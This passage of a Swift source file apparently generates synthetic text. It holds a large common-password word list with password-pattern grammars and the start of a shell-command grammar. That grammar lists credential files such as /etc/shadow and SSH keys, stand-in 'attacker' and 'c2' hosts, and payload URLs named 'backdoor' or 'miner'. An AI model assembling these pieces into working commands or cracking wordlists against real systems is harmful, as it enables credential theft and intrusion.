        olympic playoff superbowl worldcup shooter slugger dunker
        batman superman spiderman ironman hulk thor wolverine flash robin joker catwoman aquaman cyclops magneto
        venom deadpool avenger avengers marvel hero heroes legend legends villain master killer slayer fighter hobbit
        gandalf frodo gollum hogwarts wizard witch merlin jedi sith yoda vader skywalker chewie trooper starwars
        startrek spock enterprise matrix morpheus terminator predator alien aliens robot robocop transformer optimus
        megatron godzilla rambo scarface godfather gangster mafia bond agent spy zombie vampire werewolf ghost ghoul
        demon devil angel angels lucifer satan reaper phantom spectre shadow samurai shogun viking spartan gladiator
        titan zeus apollo athena hermes poseidon hades odin loki pharaoh mummy sphinx pokemon pikachu charizard mario
        luigi zelda sonic tetris pacman kirby yoshi minecraft fortnite warcraft starcraft diablo halo doom quake
        tekken kombat simpsons futurama scooby snoopy garfield tigger pooh mickey minnie goofy pluto barbie shrek
        simba nemo elmo kermit smurf bambi dumbo tarzan popeye casper gizmo gremlin
        red blue green yellow orange purple violet pink black white silver golden gold bronze copper iron steel
        titanium platinum chrome brown gray grey cyan magenta maroon navy teal scarlet crimson indigo ivory
        sunshine sunset sunrise sunny rainbow thunder lightning storm tornado hurricane blizzard summer winter autumn
        spring flower flowers rose roses daisy lily tulip orchid lotus jasmine poppy blossom forest jungle river ocean
        island mountain desert canyon valley meadow garden midnight moonlight starlight star stars galaxy planet comet
        cosmos universe sky cloud clouds snow snowball snowflake ice fire flame water earth stone rock diamond crystal
        pearl ruby emerald sapphire amber jade coral onyx opal topaz quartz marble granite sand beach wave waves tide
        coast harbor lagoon volcano glacier thunderbird sunflower wildflower maple oak pine cedar willow birch palm
        cactus bamboo clover shamrock leaf tree trees grass moss fern twilight eclipse horizon nebula meteor
        love lover lovers loving lovely sweet sweetie sweetheart sweetpea honey honeybee darling angel baby babygirl
        babyboy babe princess prince queen king beauty beautiful pretty cutie cute happy happiness smile smiles laugh
        friend friends friendship forever always heart hearts kisses kiss hugs dream dreams dreamer destiny faith hope
        trust freedom secret secrets mystery magic magical wonder wonderful miracle blessed blessing heaven spirit
        passion desire crazy lucky funny silly cool awesome sexy hottie naughty nasty wicked evil sinner saint grace
        glory peace harmony serenity paradise bliss joy fun party lonely alone broken tears sorry please thanks
        thankyou welcome goodbye hello hey hiya whatever nothing something anything everything nobody somebody
        everybody someone anyone forget remember believe imagine inspire ruler rules
        mother father mom mommy mama dad daddy papa family sister brother sis bro grandma grandpa granny nana son
        daughter husband wife hubby wifey boyfriend girlfriend buddy dude boss chief captain doctor nurse teacher
        student pilot sailor cowboy cowgirl lady gentleman sir madam mister kid kids children child twins cousin
        uncle aunt nephew niece bride groom bestfriend soulmate
        chocolate cookie cookies cupcake candy sugar cherry banana apple apples lemon lime peach mango kiwi grape
        grapes melon watermelon strawberry blueberry raspberry pineapple coconut coffee espresso latte tea pizza
        burger hotdog taco burrito nachos pepper peppers cheese butter bacon muffin pumpkin cinnamon vanilla caramel
        toffee fudge brownie pancake waffle donut popcorn cake pie icecream cream milk bread toast sandwich noodle
        pasta spaghetti lasagna sushi ramen rice beans potato tomato carrot onion garlic salad soup steak ham sausage
        pickle peanut almond walnut cashew whiskey tequila vodka rum gin beer wine champagne martini margarita
        cocacola pepsi sprite gatorade jellybean marshmallow lollipop bubblegum
        computer laptop internet network online website email password passwd secret access login logon letmein
        welcome default system server hacker hacking cracker coder coding program python java linux windows apple
        android iphone samsung nokia google yahoo facebook twitter youtube myspace skype mobile phone camera radio
        video music guitar piano drums drummer singer rocker rockstar metal jazz blues disco techno punk reggae hiphop
        rap rapper country opera band concert movie movies cinema theater book books novel story poem poetry art
        artist painter paint design photo picture digital cyber pixel gadget widget
        car cars truck trucks jeep bike motorbike motorcycle scooter harley yamaha honda toyota nissan mazda subaru
        suzuki kawasaki ducati ferrari porsche lamborghini mercedes bmw audi volvo volkswagen bentley cadillac chevy
        chevrolet camaro corvette charger challenger pontiac firebird dodge ford chrysler lexus hummer rocket engine
        turbo diesel nitro racer speed speedy fast furious plane airplane jet helicopter boat ship yacht submarine
        train tractor
        london paris dallas boston texas florida chicago vegas tokyo berlin hawaii miami houston atlanta seattle
        detroit memphis jersey newyork brooklyn california canada mexico brazil france germany italy spain england
        ireland scotland russia china japan india africa egypt america usa europe asia australia alaska montana
        carolina virginia arizona nevada oregon kansas nebraska orlando hollywood manhattan
        jesus god christ church bible lord savior hell holy pray prayer amen allah buddha karma zen soul
        fuck fucker fuckyou fuckoff shit bitch bitches ass asshole dick cock pussy penis boobs tits sex sexual porn
        horny hooker slut whore booty butt naked nude kinky lust erotic playboy playgirl stud hunk
        money dollar dollars cash rich power energy flash blaze smoke smokey hammer anvil sword shield axe knife gun
        guns bullet bullets bomb missile army navy marine marines war battle combat commando trigger pistol rifle
        shotgun tank cannon
        house home garage kitchen bedroom school college university class office work job business company market
        shop store mall bank hotel castle palace tower bridge city town village street road highway
        big little small tiny giant huge great good bad best better super mega ultra hyper hot cold warm dark light
        bright sad angry mad wild smart genius clever stupid dumb strong weak quick young old new ancient modern royal
        noble brave bold fierce mighty hidden lost free true real fake pure sour bitter spicy salty poor
        run jump fly swim dance sing play win lose fight kill hunt hate hug cry sleep wake eat drink drive ride walk
        talk read write draw build break make take give get go stop start open close enter exit change wish
        monday tuesday wednesday thursday friday saturday sunday january february march april june july august
        september october november december christmas xmas easter halloween holiday vacation weekend birthday
        buster sparky rocky duke bandit rusty dusty oreo fluffy teddy snickers pumpkin peanut biscuit pepper ginger
        shorty bubba booboo sugar muffin cookie tiger smokey princess champ
        alabama alaska arizona arkansas california colorado connecticut delaware florida georgia hawaii idaho illinois
        indiana iowa kansas kentucky louisiana maine maryland massachusetts michigan minnesota mississippi missouri
        montana nebraska nevada newjersey newmexico newyork northcarolina ohio oklahoma oregon pennsylvania
        rhodeisland tennessee texas utah vermont virginia washington wisconsin wyoming
        mercury venus earth mars jupiter saturn uranus neptune pluto moon sun aries taurus gemini cancer leo virgo
        libra scorpio sagittarius capricorn aquarius pisces alpha beta gamma delta epsilon omega sigma theta lambda
        argentina austria belgium bolivia chile colombia cuba denmark ecuador finland greece holland hungary iceland
        indonesia iran iraq israel jamaica kenya korea lebanon malaysia morocco nepal nigeria norway pakistan panama
        peru philippines poland portugal romania serbia singapore sweden switzerland thailand turkey ukraine vietnam
        amsterdam barcelona madrid rome venice milan moscow dublin sydney melbourne toronto vancouver montreal
        bangkok singapore dubai cairo istanbul athens prague vienna warsaw stockholm oslo helsinki lisbon
        adidas nike puma reebok gucci prada chanel versace armani rolex cartier levis diesel guess
        microsoft intel cisco oracle dell compaq acer asus lenovo sony panasonic toshiba canon nikon philips siemens
        sega atari playstation xbox gameboy nintendo
        budweiser heineken corona guinness bacardi smirnoff jackdaniels jagermeister marlboro camel
        boeing airbus cessna concorde spitfire mustang apache tomahawk stealth falcon raptor hornet
        rock pop jazz blues soul funk metal grunge emo goth punk ska trance house dubstep country gospel classical
        symphony melody rhythm harmony chorus lyrics guitarist bassist pianist violin cello trumpet saxophone flute
        drum banjo harmonica ukulele
        pencil paper eraser notebook backpack blanket pillow mirror window door table chair sofa candle lamp clock
        watch wallet purse ring necklace bracelet earring diamond jewel treasure pirate island anchor compass map
        rocket spaceship satellite telescope microscope laboratory science physics chemistry biology history
        geography algebra calculus zero one two three four five six seven eight nine ten hundred thousand million
        billion infinity eternity
        cardinals falcons ravens bills chargers bears bengals browns broncos lions texans colts jaguars chiefs raiders
        rams vikings patriots saints giants jets eagles steelers niners seahawks buccaneers titans commanders
        redskins diamondbacks braves orioles redsox whitesox cubs reds indians guardians rockies tigers astros royals
        angels dodgers marlins brewers twins mets yankees athletics phillies pirates padres mariners rays rangers
        bluejays nationals celtics nets knicks sixers raptors bulls cavaliers pistons pacers bucks hawks hornets heat
        magic wizards nuggets timberwolves thunder blazers jazz warriors clippers lakers suns kings mavericks rockets
        grizzlies pelicans spurs bruins sabres canadiens senators leafs hurricanes blackhawks avalanche stars
        wild predators blues flames oilers canucks ducks sharks penguins flyers capitals islanders devils
        liverpool chelsea arsenal everton united city barca juventus milan inter ajax porto benfica celtic rangers
        bayern galaxy
        civic accord corolla camry prius sentra altima maxima miata impreza outback wrangler cherokee durango ram
        silverado tahoe suburban escalade explorer ranger bronco thunderbird cobra shelby stingray viper
        charger challenger firebird trans gto beetle golf jetta passat quattro carrera boxster cayenne testarossa
        diablo murcielago gallardo skyline supra celica eclipse lancer evo integra prelude hummer land rover
        pokemon digimon goku vegeta dragonball sailormoon gundam totoro hellokitty spongebob scooby
        snoopy garfield tweety bugs daffy taz roadrunner coyote popeye pinky brain
        batgirl supergirl hulk thor loki groot rocket starlord thanos ultron vision gambit rogue storm jubilee
        sonic tails knuckles mario luigi peach bowser toad donkeykong samus megaman zelda ganon kratos masterchief
        lara croft solid snake cloud sephiroth tifa aerith yuna squall
        sexy sexygirl hottie hotstuff hotboy hotgirl badboy badgirl bigboy biggirl bigdaddy mamacita papi
        loverboy lovergirl sweetheart sugarbaby cutiepie honeybun pumpkin babydoll dollface angelface
        devilish wildcat tigress foxy vixen stud stallion playa pimp pimpin gangsta thug thuglife homeboy homie
        ninja samurai shinobi ronin sensei dojo katana shuriken nunchuck
        whatever nothing asdf blahblah yadayada hahaha hehehe lol lmao rofl omg wtf idk brb xoxo
        biteme letmein trustno openup goaway getlost shutup loser
        """)

    /// Short roots that form compound words (`firebird`, `moonlight`, `blackjack`).
    static let compoundHeads: [String] = [
        "fire", "sun", "moon", "star", "sea", "sky", "snow", "rain", "black", "white", "red", "blue", "green", "gold",
        "silver", "iron", "steel", "dark", "night", "day", "big", "little", "hot", "cool", "sweet", "wild", "free",
        "super", "mega", "ultra", "death", "blood", "dream", "love", "lady", "baby", "bad", "mad", "happy", "lucky",
        "magic", "thunder", "storm", "shadow", "ice", "rock", "wolf", "dragon", "eagle", "tiger", "lion", "bull",
        "foot", "base", "basket", "hand", "head", "heart", "soul", "spirit", "home", "play", "war", "gun", "sword",
        "king", "queen", "prince", "star", "space", "sand", "wind", "wood", "stone", "water", "flower", "honey",
    ]
    static let compoundTails: [String] = [
        "bird", "light", "shine", "fly", "flower", "man", "boy", "girl", "dog", "cat", "fish", "star", "ball",
        "fire", "storm", "wind", "blade", "heart", "jack", "hawk", "wolf", "rider", "walker", "runner", "hunter",
        "maker", "breaker", "killer", "lover", "dream", "land", "world", "stone", "house", "game", "time", "side",
        "water", "wood", "field", "stick", "head", "face", "hand", "foot", "lord", "king", "queen", "master",
        "power", "force", "zone", "line", "beat", "bomb", "dust", "ride", "core", "fox", "bear", "cake", "pie",
    ]

    /// English derivational and inflectional endings, applied to the word list with the usual
    /// spelling rules (`hunt` → `hunter`, `run` → `runner`, `love` → `lovely`, `happy` → `happiness`).
    static let derivations: [String] = ["er", "ers", "ing", "s", "y", "ie", "ies", "man", "boy", "girl", "ness", "ful",
                                        "less", "ish", "ly", "ed", "z", "o", "head", "land", "ville", "ster", "able"]

    static func derived(_ random: inout CorpusRandom) -> String {
        var w = random.pick(words)
        let suffix = random.pick(derivations)
        let vowels: Set<Character> = ["a", "e", "i", "o", "u"]
        let startsWithVowel = suffix.first.map { vowels.contains($0) || $0 == "y" } ?? false
        if startsWithVowel, w.hasSuffix("e") { w.removeLast() }
        if startsWithVowel, w.count >= 3 {
            let tail = Array(w.suffix(3))
            if !vowels.contains(tail[0]), vowels.contains(tail[1]), !vowels.contains(tail[2]), !"wxy".contains(tail[2]) {
                w.append(tail[2])
            }
        }
        if w.hasSuffix("y"), ["ness", "ly", "ful", "less", "ies", "er", "ed"].contains(suffix) {
            w.removeLast()
            w.append("i")
        }
        if suffix == "ies", w.hasSuffix("i") { return w + "es" }
        return w + suffix
    }

    /// Phrase-like passwords: `iloveyou`-, `letmein`-, `trustno1`-style short sentences.
    static func phrase(_ random: inout CorpusRandom) -> String {
        let pronoun = random.pick(["i", "you", "we", "me", "my", "its", "im", "ur", "the", "a", "just", "go", "let", "no"])
        let verb = random.pick(["love", "hate", "miss", "want", "need", "like", "kill", "trust", "see", "am", "got",
                                "rock", "rule", "win", "fly", "run", "know", "feel", "make", "open", "let"])
        let object = random.weighted([
            (3.0, random.pick(["you", "me", "him", "her", "it", "us", "them", "god", "life", "this", "that", "all",
                              "everyone", "nobody", "mom", "dad", "jesus", "music", "money", "sex", "in", "out",
                              "up", "now", "here", "home", "free", "away", "on", "more", "forever"])),
            (1.0, random.pick(words)),
            (0.8, Names.given(&random)),
        ])
        var text = "\(pronoun)\(verb)\(object)"
        if random.chance(0.3) { text += random.pick(["1", "2", "4u", "123", "!", "69", "4ever", "2much", "11"]) }
        return text
    }

    static let leet: [(Character, [String])] = [
        ("a", ["@", "4"]), ("e", ["3"]), ("i", ["1", "!"]), ("o", ["0"]), ("s", ["$", "5"]), ("t", ["7"]),
        ("l", ["1"]), ("g", ["9"]), ("b", ["8"]),
    ]

    static func leetspeak(_ word: String, _ random: inout CorpusRandom) -> String {
        let rate = random.weighted([(1.0, 0.35), (1.0, 0.7), (1.0, 1.0)])
        var out = ""
        for c in word {
            if let entry = leet.first(where: { $0.0 == c }), random.chance(rate) {
                out += random.pick(entry.1)
            } else {
                out.append(c)
            }
        }
        return out
    }

    /// Keyboard rows and columns of a QWERTY keyboard (the layout, not a password list).
    static let keyboardRows: [String] = ["1234567890", "qwertyuiop", "asdfghjkl", "zxcvbnm", "!@#$%^&*()"]
    static let keyboardColumns: [String] = ["1qaz", "2wsx", "3edc", "4rfv", "5tgb", "6yhn", "7ujm", "8ik,", "9ol.", "0p;/"]
    static let azertyRows: [String] = ["azertyuiop", "qsdfghjklm", "wxcvbn"]

    static func keyboardWalk(_ random: inout CorpusRandom) -> String {
        switch random.weighted([(5.0, 0), (2.0, 1), (1.0, 2), (1.0, 3), (1.0, 4)]) {
        case 0:
            // A run along one row, sometimes reversed, sometimes two rows in turn.
            let row = Array(random.weighted([(1.0, keyboardRows[0]), (3.0, keyboardRows[1]), (2.0, keyboardRows[2]),
                                             (1.5, keyboardRows[3]), (0.3, azertyRows[random.int(3)])]))
            let length = random.int(in: 4...Swift.min(row.count, 9))
            let start = random.weighted([(4.0, 0), (1.0, random.int(Swift.max(1, row.count - length + 1)))])
            var walk = String(row[start..<Swift.min(row.count, start + length)])
            if random.chance(0.12) { walk = String(walk.reversed()) }
            if random.chance(0.2) { walk += walk }
            return walk
        case 1:
            // Down the columns: 1qaz2wsx, qazwsx, zaq1xsw2.
            let count = random.int(in: 2...4)
            let start = random.int(keyboardColumns.count - count + 1)
            let columns = keyboardColumns[start..<(start + count)]
            let withDigits = random.chance(0.6)
            let reversed = random.chance(0.2)
            return columns.map { column -> String in
                var c = withDigits ? column : String(column.dropFirst())
                c = String(c.prefix(random.chance(0.8) ? c.count : c.count - 1))
                return reversed ? String(c.reversed()) : c
            }.joined()
        case 2:
            // Row run followed by digits or the digit row.
            let row = random.pick(Array(keyboardRows[1...3]))
            return String(row.prefix(random.int(in: 4...6))) + random.pick(["123", "1234", "12345", "1", "12", "!"])
        case 3:
            // Digit row, then a letter row: 1234qwer, 123qwe.
            let n = random.int(in: 3...5)
            let first = String(keyboardRows[0].prefix(n))
            let second = String(keyboardRows[random.int(in: 1...2)].prefix(n))
            return random.chance(0.5) ? first + second : second + first
        default:
            // Alternating pairs: q1w2e3r4, a1s2d3.
            let row = Array(keyboardRows[random.int(in: 1...2)])
            let n = random.int(in: 3...5)
            return (0..<n).map { "\(row[$0])\($0 + 1)" }.joined()
        }
    }

    static func digitRun(_ random: inout CorpusRandom) -> String {
        switch random.weighted([(4.0, 0), (2.0, 1), (2.0, 2), (2.0, 3), (1.0, 4), (2.0, 5)]) {
        case 0:
            // Ascending or descending sequence: 123456, 0123456789, 987654.
            let length = random.int(in: 4...10)
            let start = random.weighted([(6.0, 1), (1.0, 0), (1.0, random.int(in: 2...5))])
            var s = (0..<length).map { String((start + $0) % 10) }.joined()
            if random.chance(0.15) { s = String(s.reversed()) }
            return s
        case 1:
            // One digit repeated: 111111, 7777777.
            return String(repeating: String(random.int(10)), count: random.int(in: 4...9))
        case 2:
            // A short block repeated: 121212, 123123, 696969.
            let block = random.digits(random.int(in: 2...3))
            return String(repeating: block, count: random.int(in: 2...3))
        case 3:
            // Pairs: 112233, 11223344.
            let start = random.int(in: 0...5)
            return (0..<random.int(in: 3...4)).map { String(repeating: String((start + $0) % 10), count: 2) }.joined()
        case 4:
            // A PIN.
            return random.digits(random.weighted([(3.0, 4), (2.0, 6), (1.0, 5), (1.0, 8)]))
        default:
            return date(&random, separators: false)
        }
    }

    /// Dates as people type them: 01011990, 1987, 19871987, 12-05-1990, 31/12/99.
    static func date(_ random: inout CorpusRandom, separators: Bool) -> String {
        let day = TextShape.twoDigit(random.int(in: 1...28))
        let month = TextShape.twoDigit(random.int(in: 1...12))
        let year = TextShape.year(&random, twoDigits: random.chance(0.35))
        let sep = separators ? random.pick(["-", "/", "."]) : ""
        switch random.int(5) {
        case 0: return "\(day)\(sep)\(month)\(sep)\(year)"
        case 1: return "\(month)\(sep)\(day)\(sep)\(year)"
        case 2: return year + (random.chance(0.4) ? year : "")
        case 3: return "\(year)\(sep)\(month)\(sep)\(day)"
        default: return "\(month)\(year)"
        }
    }

    static let months: [String] = ["jan", "feb", "mar", "apr", "may", "jun", "jul", "aug", "sep", "oct", "nov", "dec",
                                   "january", "february", "march", "june", "july", "september", "november"]
    static let symbols: [String] = ["!", "!", "!", "@", "#", "$", "%", "&", "*", "?", ".", "!!", "!@#", "_", "-", "+", "="]

    /// A word for passwords: a common word, a compound, sometimes a name.
    static func baseWord(_ random: inout CorpusRandom) -> String {
        random.weighted([
            (6.0, random.pick(words)),
            (2.0, random.pick(compoundHeads) + random.pick(compoundTails)),
            (1.0, Names.given(&random)),
        ])
    }

    static func suffix(_ random: inout CorpusRandom) -> String {
        random.weighted([
            (3.0, "1"), (2.0, "123"), (1.0, "12"), (1.0, "1234"), (1.5, String(random.int(in: 0...99))),
            (1.5, TextShape.year(&random)), (1.0, TextShape.year(&random, twoDigits: true)), (0.5, "69"),
            (0.5, "007"), (0.5, "01"), (0.4, "666"), (0.4, "777"), (0.4, "321"), (0.3, "12345"),
        ])
    }

    static func strong(_ random: inout CorpusRandom) -> String {
        let lower = Array("abcdefghijkmnopqrstuvwxyz"), upper = Array("ABCDEFGHJKLMNPQRSTUVWXYZ")
        let digits = Array("0123456789"), marks = Array("!@#$%^&*()-_=+[]{};:,.<>?/~|")
        let length = random.int(in: 8...24)
        var s = ""
        for _ in 0..<length {
            switch random.weighted([(4.0, 0), (2.5, 1), (2.0, 2), (1.2, 3)]) {
            case 0: s.append(random.pick(lower))
            case 1: s.append(random.pick(upper))
            case 2: s.append(random.pick(digits))
            default: s.append(random.pick(marks))
            }
        }
        return s
    }

    static func password(_ random: inout CorpusRandom) -> String {
        switch random.weighted([
            (100.0, 0), // plain word or compound
            (12.0, 1), // word + digits
            (6.0, 2), // Word + digits + symbol (Summer2024!)
            (6.0, 3), // leetspeak
            (9.0, 4), // digits
            (7.0, 5), // keyboard walk
            (5.0, 6), // phrases
            (5.0, 7), // random strong
            (2.0, 8), // word + word (+ digits)
            (2.0, 9), // passphrase with spaces or separators
            (2.0, 10), // month/season + year
            (2.0, 11), // name + digits
            (2.5, 12), // simple alphabet patterns and repeats
            (1.0, 13), // reversed word / doubled word
            (1.5, 14), // a few letters + digits (abc123, a1b2c3)
        ]) {
        case 0:
            var w: String
            switch random.weighted([(10.0, 0), (2.0, 1), (1.5, 2)]) {
            case 0: w = random.deal(words, deck: 1)
            case 1: w = random.pick(compoundHeads) + random.pick(compoundTails)
            default: w = derived(&random)
            }
            if random.chance(0.1) { w += random.pick(["s", "y", "er", "z", "x"]) }
            return TextShape.casing(w, &random, lower: 90, capital: 7, upper: 3)
        case 1:
            return TextShape.casing(baseWord(&random), &random, lower: 80, capital: 15, upper: 5) + suffix(&random)
        case 2:
            let w = TextShape.capitalized(baseWord(&random))
            return random.chance(0.7) ? w + suffix(&random) + random.pick(symbols) : w + random.pick(symbols) + suffix(&random)
        case 3:
            var w = leetspeak(baseWord(&random), &random)
            if random.chance(0.4) { w = TextShape.capitalized(w) }
            if random.chance(0.5) { w += suffix(&random) }
            if random.chance(0.3) { w += random.pick(symbols) }
            return w
        case 4:
            return digitRun(&random)
        case 5:
            var w = keyboardWalk(&random)
            if random.chance(0.1) { w = TextShape.capitalized(w) }
            if random.chance(0.15) { w += random.pick(["1", "123", "!", "12"]) }
            return w
        case 6:
            return phrase(&random)
        case 7:
            return strong(&random)
        case 8:
            let a = random.pick(words), b = random.pick(words)
            var w = random.chance(0.3) ? TextShape.capitalized(a) + TextShape.capitalized(b) : a + b
            if random.chance(0.4) { w += suffix(&random) }
            return w
        case 9:
            let count = random.int(in: 2...4)
            let sep = random.weighted([(2.0, " "), (1.5, "-"), (1.0, "_"), (1.0, "."), (1.5, "")])
            let parts = (0..<count).map { _ in random.pick(words) }
            var w = parts.joined(separator: sep)
            if random.chance(0.3) { w = TextShape.capitalized(w) }
            if random.chance(0.3) { w += suffix(&random) }
            return w
        case 10:
            let season = random.pick(months + ["spring", "summer", "autumn", "fall", "winter", "xmas", "christmas"])
            let w = random.chance(0.6) ? TextShape.capitalized(season) : season
            return w + TextShape.year(&random, twoDigits: random.chance(0.3)) + (random.chance(0.4) ? random.pick(symbols) : "")
        case 11:
            let name = Names.given(&random)
            let w = random.chance(0.3) ? TextShape.capitalized(name) : name
            return w + random.weighted([(2.0, suffix(&random)), (1.0, date(&random, separators: false))])
        case 12:
            let alphabet = Array("abcdefghijklmnopqrstuvwxyz")
            switch random.int(4) {
            case 0:
                let n = random.int(in: 3...8)
                return String(alphabet.prefix(n))
            case 1:
                return String(repeating: String(random.pick(alphabet)), count: random.int(in: 3...8))
            case 2:
                let block = String((0..<random.int(in: 2...3)).map { _ in random.pick(alphabet) })
                return String(repeating: block, count: random.int(in: 2...3))
            default:
                return random.pick(["pass", "passwd", "pwd", "secret", "letmein", "welcome", "qwerty", "access"]) +
                    random.pick(["", "1", "123", "!", "2024", "01"])
            }
        case 13:
            let w = random.pick(words)
            return random.chance(0.5) ? String(w.reversed()) : w + w
        default:
            let alphabet = Array("abcdefghijklmnopqrstuvwxyz")
            let n = random.int(in: 1...4)
            if random.chance(0.4) {
                return (0..<n + 1).map { _ in "\(random.pick(alphabet))\(random.int(10))" }.joined()
            }
            let letters = random.chance(0.5) ? String(alphabet.prefix(n + 1)) : String((0..<n).map { _ in random.pick(alphabet) })
            return letters + random.pick(["123", "1", "12", "1234", "321", "000", "007", String(random.int(in: 10...99))])
        }
    }
}

// MARK: - Shell commands and injections

enum CommandGrammar {
    static let pathSegments: [String] = [
        "etc", "var", "log", "tmp", "home", "usr", "bin", "sbin", "local", "share", "opt", "srv", "www", "html", "data",
        "backup", "backups", "config", "conf", "dev", "proc", "root", "mnt", "media", "lib", "lib64", "src", "build",
        "docs", "cache", "run", "spool", "cron.d", "init.d", "nginx", "apache2", "httpd", "mysql", "postgresql",
        "ssh", ".ssh", ".config", "Documents", "Downloads", "Desktop", "Pictures", "Music", "projects", "workspace",
        "app", "apps", "public", "uploads", "images", "static", "scripts", "test", "tests", "logs", "out", "dist",
        "node_modules", "site-packages", "include", "sys", "kernel", "modules", "boot", "efi", "system", "net",
    ]
    static let fileStems: [String] = [
        "passwd", "shadow", "hosts", "group", "sudoers", "config", "settings", "data", "file", "output", "input",
        "report", "notes", "readme", "README", "main", "index", "test", "backup", "dump", "access", "error", "syslog",
        "messages", "auth", "secure", "id_rsa", "authorized_keys", "known_hosts", "bashrc", ".bashrc", ".profile",
        "crontab", "fstab", "resolv", "list", "result", "results", "foo", "bar", "baz", "temp", "tmp", "log",
        "script", "run", "install", "setup", "Makefile", "Dockerfile", "package", "server", "client", "app",
        "database", "users", "db", "archive", "image", "photo", "video", "song", "doc", "letter", "new", "old",
    ]
    static let extensions: [String] = [
        "", "", "", ".txt", ".log", ".conf", ".sh", ".py", ".c", ".h", ".cpp", ".java", ".js", ".json", ".xml",
        ".yml", ".yaml", ".csv", ".tar.gz", ".tgz", ".zip", ".gz", ".bak", ".old", ".tmp", ".md", ".html", ".php",
        ".jpg", ".png", ".mp3", ".pdf", ".sql", ".db", ".pl", ".rb", ".go", ".rs", ".o", ".so", ".iso", ".img",
    ]
    static let sensitiveFiles: [String] = [
        "/etc/passwd", "/etc/shadow", "/etc/hosts", "/etc/group", "/etc/sudoers", "/root/.ssh/id_rsa",
        "~/.ssh/authorized_keys", "/proc/self/environ", "/proc/version", "/etc/issue", "/var/log/auth.log",
        "/etc/crontab", "~/.bash_history", "/etc/resolv.conf", "/proc/cpuinfo", "/etc/os-release",
    ]

    static func fileName(_ random: inout CorpusRandom) -> String {
        let stem = random.chance(0.2) ? PasswordGrammar.baseWord(&random) : random.pick(fileStems)
        return stem + random.pick(extensions)
    }

    static func path(_ random: inout CorpusRandom) -> String {
        switch random.weighted([(3.0, 0), (2.0, 1), (1.5, 2), (1.0, 3), (1.0, 4), (0.6, 5), (1.0, 6)]) {
        case 0:
            let depth = random.int(in: 1...4)
            let dirs = (0..<depth).map { _ in random.pick(pathSegments) }.joined(separator: "/")
            return "/\(dirs)" + (random.chance(0.6) ? "/" + fileName(&random) : "")
        case 1: return fileName(&random)
        case 2:
            let prefix = random.pick(["./", "../", "~/", "$HOME/", "../../", "${HOME}/", "$DIR/"])
            return prefix + (random.chance(0.5) ? random.pick(pathSegments) + "/" : "") + fileName(&random)
        case 3: return random.pick(sensitiveFiles)
        case 4: return random.pick([".", "/", "~", "..", "*", "/tmp", "/var/log", "$HOME", "/dev/null", "$PWD", "./*"])
        case 5: return "\"" + random.pick(["My Documents", "New Folder", "file name", "Program Files", "a b"]) + "\""
        default: return random.pick(pathSegments) + "/" + fileName(&random)
        }
    }

    static func glob(_ random: inout CorpusRandom) -> String {
        let quote = random.pick(["'", "\"", "", "\\"])
        let pattern = random.weighted([
            (3.0, "*" + random.pick(extensions.filter { !$0.isEmpty })),
            (1.0, random.pick(fileStems) + "*"),
            (1.0, "*" + random.pick(fileStems) + "*"),
            (0.5, "*.[ch]"), (0.5, "*.JPG"), (0.3, "*~"), (0.3, ".*"),
        ])
        return quote == "\\" ? pattern.replacingStar() : quote + pattern + quote
    }

    static func host(_ random: inout CorpusRandom) -> String {
        random.weighted([
            (2.0, "\(random.int(in: 1...223)).\(random.int(256)).\(random.int(256)).\(random.int(in: 1...254))"),
            (1.0, "10.0.\(random.int(256)).\(random.int(in: 1...254))"),
            (1.0, "192.168.\(random.int(in: 0...2)).\(random.int(in: 1...254))"),
            (2.0, random.pick(["server", "host", "web", "db", "backup", "node", "box", "remote", "evil", "attacker",
                               "c2", "files", "mirror", "git", "build", "example"]) +
                (random.chance(0.5) ? String(random.int(in: 1...20)) : "") +
                random.pick([".com", ".net", ".org", ".io", ".local", "", ".example.com", ".lan", ".ru", ".xyz"])),
            (0.5, "localhost"),
        ])
    }

    static func url(_ random: inout CorpusRandom) -> String {
        let scheme = random.weighted([(3.0, "http://"), (2.0, "https://"), (0.5, "ftp://"), (0.5, "")])
        let port = random.chance(0.2) ? ":\(random.pick(["8080", "8000", "443", "4444", "1337", "9000"]))" : ""
        let file = random.pick(["x.sh", "shell.sh", "payload", "a", "install.sh", "update", "bot", "miner", "p.py",
                                "index.html", "file.tar.gz", "s", "run.sh", "backdoor", "x86", "mips", "arm7", "i"])
        return "\(scheme)\(host(&random))\(port)/\(random.chance(0.3) ? random.pick(pathSegments) + "/" : "")\(file)"
    }

    static func user(_ random: inout CorpusRandom) -> String {
        random.chance(0.5) ? random.pick(["root", "admin", "www-data", "ubuntu", "user", "nobody", "postgres", "git"])
            : Names.given(&random)
    }

    static func quoted(_ s: String, _ random: inout CorpusRandom) -> String {
        switch random.weighted([(3.0, 0), (2.0, 1), (1.0, 2)]) {
        case 0: return "'\(s)'"
        case 1: return "\"\(s)\""
        default: return s.contains(" ") ? "'\(s)'" : s
        }
    }

    static func searchWord(_ random: inout CorpusRandom) -> String {
        random.weighted([
            (3.0, random.pick(PasswordGrammar.words)),
            (1.0, random.pick(["error", "ERROR", "warning", "WARN", "failed", "Failed password", "root", "TODO",
                               "main", "include", "import", "function", "http", "localhost", "127.0.0.1", "ssh",
                               "pattern", "string", "text", "foo", "bar", "hello world", "^#", "^$", "[0-9]+",
                               "\\.txt$", "^[a-z]", "\\bword\\b", "Exception", "null", "user", "password"])),
        ])
    }

    /// One simple command with arguments.
    static func simple(_ random: inout CorpusRandom) -> String {
        let n = random.int(in: 1...50)
        switch random.int(62) {
        case 0, 1, 2:
            var parts = ["find", path(&random)]
            for _ in 0..<random.int(in: 1...3) {
                parts.append(random.weighted([
                    (3.0, "-name \(glob(&random))"), (1.0, "-iname \(glob(&random))"),
                    (2.0, "-type \(random.pick(["f", "d", "l"]))"), (1.0, "-mtime \(random.pick(["+", "-", ""]))\(random.int(in: 1...30))"),
                    (1.0, "-size \(random.pick(["+", "-"]))\(random.int(in: 1...500))\(random.pick(["k", "M", "G", "c"]))"),
                    (0.6, "-user \(user(&random))"), (0.6, "-perm \(random.pick(["644", "755", "777", "-4000", "/u+s"]))"),
                    (0.8, "-maxdepth \(random.int(in: 1...3))"), (0.5, "-empty"), (0.5, "-newer \(fileName(&random))"),
                    (0.4, "-mmin -\(random.int(in: 1...120))"), (0.4, "-not -path '*/.git/*'"),
                ]))
            }
            parts.append(random.weighted([
                (2.0, ""), (1.5, "-exec \(random.pick(["rm", "ls -l", "chmod 644", "grep -l foo", "cp {} /tmp", "mv", "cat", "wc -l", "gzip"])) {} \\;"),
                (0.8, "-exec \(random.pick(["grep -H bar", "du -sh", "rm -f", "chown root"])) {} +"), (1.0, "-print"),
